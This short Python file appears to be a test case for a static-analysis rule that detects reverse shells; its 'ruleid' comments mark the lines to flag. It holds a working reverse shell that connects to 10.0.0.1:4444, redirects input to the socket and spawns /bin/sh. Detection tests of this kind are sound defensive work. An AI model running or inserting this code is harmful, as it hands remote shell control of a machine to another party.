import socket
import os
import pty
s = socket.socket()
s.connect(("10.0.0.1", 4444))
# ruleid: ANY-REVSHELL
os.dup2(s.fileno(), 0)
# ruleid: ANY-REVSHELL
pty.spawn("/bin/sh")
